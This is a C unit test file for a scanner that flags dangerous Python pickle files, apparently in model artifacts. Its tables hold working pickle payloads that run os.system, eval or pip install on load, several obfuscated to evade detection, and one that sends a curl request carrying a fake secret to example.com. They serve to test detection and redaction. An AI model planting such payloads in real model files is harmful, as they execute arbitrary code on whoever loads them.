/* Pickles: what is called, how it is reached, and what is not alarming. Each line was checked against pickle.load of Python 3.11. */
#include "pickle_help.h"

static const struct {
	const char *what;
	struct aisp_slice bytes;
	int severity; /* at least this, for the bad; at most, for the harmless */
	const char *rule;
} bad[] = {
	{"global", BYTES("cos\nsystem\n(S'id'\ntR."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"stack global", BYTES("\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"names from the memo", BYTES("\x80\x04\x8c\x06system\x94\x30\x8c\x02os\x94h\x00\x93\x8c\x02id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"inst", BYTES("(S'id'\nios\nsystem\n."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"obj", BYTES("(cos\nsystem\nS'id'\no."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"popped", BYTES("cos\nsystem\n(S'id'\ntR0N."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"truncated", BYTES("cos\nsystem\n(S'id'\ntR"), AISP_MODEL_CRITICAL, "pickle-call"},
	{"broken behind", BYTES("\x80\x02" "cos\nsystem\nX\x02\0\0\0id\x85R\xff\xff"), AISP_MODEL_CRITICAL, "pickle-call"},
	{"Python 2 name", BYTES("c__builtin__\neval\n(S'1'\ntR."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"escaped name", BYTES("\x80\x04Vo\\u0073\nVsystem\n\x93\x8c\x02id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"dotted", BYTES("\x80\x04\x8c\x07logging\x8c\x09os.system\x93\x8c\x02id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"getattr", BYTES("\x80\x02" "cbuiltins\ngetattr\nclogging\nos\nX\x06\0\0\0system\x86RX\x02\0\0\0id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"map", BYTES("\x80\x02" "cbuiltins\nmap\ncos\nsystem\n]X\x02\0\0\0id" "a\x86R."), AISP_MODEL_HIGH, "pickle-call"},
	{"partial", BYTES("\x80\x02" "cfunctools\npartial\ncos\nsystem\nX\x02\0\0\0id\x86R)R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"setstate", BYTES("\x80\x02" "cargparse\nNamespace\n)R}X\x0c\0\0\0__setstate__cos\nsystem\nsbX\x02\0\0\0idb."), AISP_MODEL_HIGH, "pickle-overwrite"},
	{"items of a module's dictionary", BYTES("\x80\x02" "csys\nmodules\nX\x04\0\0\0mathNs."), AISP_MODEL_HIGH, "pickle-overwrite"},
	{"extension code", BYTES("\x80\x02" "ccopyreg\nadd_extension\nX\x02\0\0\0osX\x06\0\0\0systemK\x07\x87R0\x82\x07X\x02\0\0\0id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"joined name", BYTES("\x80\x04\x8c\x08" "builtins\x8c\x08str.join\x93\x8c\x00](\x8c\x01o\x8c\x01s" "e\x86R\x8c\x06system\x93\x8c\x02id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"nested", BYTES("\x80\x04" "cpickle\nloads\nC\x15" "cos\nsystem\n(S'id'\ntR.\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"nested, base64", BYTES("\x80\x04" "cpickle\nloads\ncbase64\nb64decode\n\x8c\x1c" "Y29zCnN5c3RlbQooUydpZCcKdFIu\x85R\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"second pickle", BYTES("\x80\x04K\x01.\x80\x02" "cos\nsystem\nX\x02\0\0\0id\x85R."), AISP_MODEL_CRITICAL, "pickle-call"},
	{"standard function on no list", BYTES("\x80\x02" "ctime\nsleep\nK\x09\x85R."), AISP_MODEL_HIGH, "pickle-call"},
	{"library function that loads", BYTES("\x80\x02" "cskimage.io\nimread\nX\x01\0\0\0x\x85R."), AISP_MODEL_HIGH, "pickle-call"},
	{"items on a tensor", BYTES("\x80\x02" "ctorch._utils\n_rebuild_tensor_v2\n)RNNs."), AISP_MODEL_HIGH, "pickle-items"},
	{"local function", BYTES("\x80\x02" "cmyproject.utils\nbuild\n)R."), AISP_MODEL_MEDIUM, "pickle-unknown-call"},
	{"reference", BYTES("\x80\x02" "cos\nsystem\n."), AISP_MODEL_MEDIUM, "pickle-reference"},
}, harmless[] = {
	{"numbers", BYTES("\x80\x04](K\x01K\x02" "e."), -1, NULL},
	{"text that looks bad", BYTES("\x80\x04\x8c\x15" "cos\nsystem\n(S'id'\ntR.."), -1, NULL},
	{"ordered dictionary", BYTES("\x80\x02" "ccollections\nOrderedDict\n)R."), -1, NULL},
	{"bytes of protocol 2", BYTES("\x80\x02" "c_codecs\nencode\nX\x02\0\0\0abX\x06\0\0\0latin1\x86R."), -1, NULL},
	{"tensor", BYTES("\x80\x02" "ctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\0" "0X\x03\0\0\0cpuK\x04tQK\0K\x04\x85K\x01\x85\x89"
	                 "ccollections\nOrderedDict\n)RtR."), -1, NULL},
	{"estimator", BYTES("\x80\x02" "csklearn.svm._classes\nSVC\n)\x81}X\x01\0\0\0CK\x01sb."), -1, NULL},
	{"own class", BYTES("\x80\x02" "cmyproject.model\nNet\n)\x81}X\x04\0\0\0evalK\x01sb."), AISP_MODEL_INFO, "pickle-needs-code"},
	{"regular expression", BYTES("\x80\x02" "cre\n_compile\nX\x04\0\0\0evalK\x20\x86R."), -1, NULL},
	{"protocol 0 object", BYTES("ccopy_reg\n_reconstructor\n(cmyproject.model\nNet\nc__builtin__\nobject\nNtR(dS'a'\nI1\nsb."), AISP_MODEL_INFO, "pickle-needs-code"},
	{"path function in a state", BYTES("\x80\x02" "csklearn.preprocessing._f\nFunctionTransformer\n)\x81}X\x04\0\0\0funccposixpath\nbasename\nsb."), AISP_MODEL_LOW, "pickle-state"},
};

static void told(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		struct scanned s = scan_bytes(bad[i].bytes, "x.pkl", NULL);
		if (worst(&s) < bad[i].severity || !issue_of(&s, bad[i].rule))
			print_error("%s: %d %s\n", bad[i].what, worst(&s), s.rep ? aisp_model_format_name(s.rep->format) : "no model file");
		assert_int_equal(s.r, 0);
		assert_true(worst(&s) >= bad[i].severity);
		assert_non_null(issue_of(&s, bad[i].rule));
		assert_int_not_equal(s.rep->state, AISP_MODEL_CLEAN);
		scanned_done(&s);
	}
}

static void quiet(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof harmless / sizeof *harmless; i++) {
		struct scanned s = scan_bytes(harmless[i].bytes, "x.pkl", NULL);
		if (worst(&s) != harmless[i].severity)
			print_error("%s: %d %s\n", harmless[i].what, worst(&s), worst(&s) >= 0 ? s.rep->issues[0].rule : "");
		assert_non_null(s.rep);
		assert_int_equal(s.rep->partial.n, 0);
		assert_int_equal(worst(&s), harmless[i].severity);
		if (harmless[i].rule)
			assert_non_null(issue_of(&s, harmless[i].rule));
		scanned_done(&s);
	}
}

static void words(void **state)
{
	struct scanned s = scan_bytes(AISP_S("\x80\x02" "NX\x01\0\0\0x0" "cpip\nmain\n(X\x07\0\0\0install" "X\x02\0\0\0\x1b[tR."), "m", NULL);

	(void)state;
	const struct aisp_model_issue *is = issue_of(&s, "pickle-call");
	assert_non_null(is);
	assert_int_equal(is->offset, 41); /* of REDUCE */
	assert_true(aisp_slice_eqz(is->reference, "CVE-2025-1716"));
	assert_true(aisp_slice_starts(is->what, AISP_S("pip.main('install', '")));
	assert_int_equal(aisp_slice_chr(is->what, '\x1b'), SIZE_MAX); /* printable */
	scanned_done(&s);
}

static void secrets(void **state)
{
	struct aisp_buf AISP_AUTOBUF b = {0};

	(void)state;
	aisp_buf_putz(&b, "cos\nsystem\n(S'curl -H sk_");
	for (int i = 0; i < 20; i++)
		aisp_buf_printf(&b, "a%d", i);
	aisp_buf_putz(&b, " http://user:hunter2@example.com'\ntR.");
	struct scanned s = scan_bytes(aisp_buf_slice(&b), "m.pkl", NULL);
	assert_int_equal(worst(&s), AISP_MODEL_CRITICAL);
	assert_int_equal(aisp_slice_find(s.rep->issues[0].what, AISP_S("a10a11a12")), SIZE_MAX);
	assert_int_equal(aisp_slice_find(s.rep->issues[0].what, AISP_S("hunter2")), SIZE_MAX);
	assert_true(aisp_slice_find(s.rep->issues[0].what, AISP_S("example.com")) != SIZE_MAX);
	scanned_done(&s);
}

static void partial(void **state)
{
	static const struct aisp_slice cut[] = {BYTES("\x80\x04\x8d\xff\xff\xff\xff\0\0\0\0abc"), BYTES("\x80\x04](K\x01"), BYTES("\x80\x04](K\x01\xff")};

	(void)state;
	for (size_t i = 0; i < sizeof cut / sizeof *cut; i++) {
		struct scanned s = scan_bytes(cut[i], "x.pkl", NULL);
		assert_non_null(s.rep);
		assert_int_equal(s.rep->state, AISP_MODEL_PARTIAL);
		scanned_done(&s);
	}
	/* Nesting has an end, and says so. */
	struct aisp_buf AISP_AUTOBUF b = {0}, AISP_AUTOBUF outer = {0};
	aisp_buf_putz(&b, "cos\nsystem\n(S'id'\ntR.");
	for (int i = 0; i < 12; i++) {
		aisp_buf_clear(&outer);
		aisp_buf_putz(&outer, "\x80\x04" "cpickle\nloads\nB");
		for (int k = 0; k < 4; k++)
			aisp_buf_putc(&outer, (char)(b.n >> (8 * k) & 0xff));
		aisp_buf_put(&outer, aisp_buf_slice(&b));
		aisp_buf_putz(&outer, "\x85R.");
		aisp_buf_clear(&b);
		aisp_buf_put(&b, aisp_buf_slice(&outer));
	}
	struct scanned s = scan_bytes(aisp_buf_slice(&b), "x.pkl", NULL);
	assert_int_equal(s.rep->state, AISP_MODEL_PARTIAL);
	assert_true(worst(&s) >= AISP_MODEL_HIGH);
	scanned_done(&s);
}

/* A payload that is skipped is not read. */
static void skipped(void **state)
{
	struct aisp_buf AISP_AUTOBUF b = {0};

	(void)state;
	aisp_buf_putz(&b, "\x80\x04](");
	for (int i = 0; i < 8; i++) {
		aisp_buf_put(&b, AISP_S("B\0\0\x40\0"));
		aisp_buf_fill(&b, 'c', 4 << 20);
	}
	aisp_buf_putz(&b, "e.");
	struct scanned s = scan_bytes(aisp_buf_slice(&b), "x.pkl", NULL);
	assert_int_equal(s.rep->state, AISP_MODEL_CLEAN);
	assert_true(s.rep->bytes_read < 300000);
	scanned_done(&s);
}

/* More issues than fit: the worst stay. */
static void many(void **state)
{
	struct aisp_buf AISP_AUTOBUF b = {0};
	struct aisp_model_limits limits = {.max_issues = 5};

	(void)state;
	aisp_buf_putz(&b, "\x80\x02");
	for (int i = 0; i < 50; i++)
		aisp_buf_printf(&b, "cmyproject.m%d\nbuild\n)R0", i);
	aisp_buf_putz(&b, "cos\nsystem\nV" "id\n\x85R.");
	struct scanned s = scan_bytes(aisp_buf_slice(&b), "x.pkl", &limits);
	assert_int_equal(s.rep->n_issues, 5);
	assert_int_equal(s.rep->issues[0].severity, AISP_MODEL_CRITICAL);
	assert_string_equal(s.rep->issues[4].rule, "more-issues");
	scanned_done(&s);
}

static void no_pickle(void **state)
{
	static const char *const texts[] = {"import os\nos.system('x')\n", "class A:\n    pass\n", "I am text.\n", "(hello)", "N.", "{\"a\": 1}", ""};

	(void)state;
	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
		struct aisp_input in = aisp_input_mem(aisp_slice_z(texts[i]));
		assert_int_not_equal(aisp_model_detect(&in, AISP_S("notes.txt")), AISP_MODEL_PICKLE);
	}
}

static void memory(void **state)
{
	(void)state;
	for (uint64_t n = 1; n < 3000; n++) {
		size_t live = aisp_mem_live();
		aisp_fault_set(n, false);
		struct aisp_arena *a = aisp_arena_new(0);
		struct aisp_input in = aisp_input_mem(bad[18].bytes);
		const struct aisp_model_report *rep = NULL;
		int r = a ? aisp_model_scan(&in, AISP_S("x.pkl"), NULL, a, &rep, NULL) : AISP_E_NOMEM;
		bool hit = aisp_fault_count() >= n;
		aisp_fault_set(0, false);
		assert_true(r == 0 || r == AISP_E_NOMEM || r == AISP_E_IO);
		assert_true(r == 0 || rep == NULL);
		aisp_arena_free(a);
		assert_int_equal(aisp_mem_live(), live);
		if (!hit)
			return;
	}
	fail();
}

int main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(told),    cmocka_unit_test(quiet),   cmocka_unit_test(words), cmocka_unit_test(secrets),
	                                   cmocka_unit_test(partial), cmocka_unit_test(skipped), cmocka_unit_test(many),  cmocka_unit_test(no_pickle),
	                                   cmocka_unit_test(memory)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
